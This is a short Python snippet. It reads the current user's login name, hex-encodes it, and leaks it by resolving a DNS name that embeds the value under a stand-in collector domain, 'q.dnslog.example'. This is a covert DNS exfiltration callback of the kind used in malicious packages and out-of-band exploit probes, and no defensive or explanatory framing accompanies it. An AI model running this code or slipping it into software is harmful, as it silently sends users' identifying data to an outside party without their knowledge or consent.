import getpass
import socket

who = getpass.getuser().encode().hex()
socket.getaddrinfo(who + ".q.dnslog.example", 80)
